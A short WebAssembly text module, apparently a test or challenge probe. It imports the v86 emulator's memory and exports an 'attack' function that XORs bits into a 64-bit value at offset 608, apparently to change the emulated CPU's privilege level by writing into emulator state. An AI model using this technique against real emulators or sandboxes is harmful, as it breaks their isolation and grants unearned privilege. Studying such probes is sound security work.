;; CPL reached from below: a 64-bit store that begins four bytes earlier.
(import "v86" "memory" (memory 1))

(func $attack (export "attack")
  (i64.store (i32.const 608) (i64.xor (i64.load (i32.const 608)) (i64.const 0x300000000))))
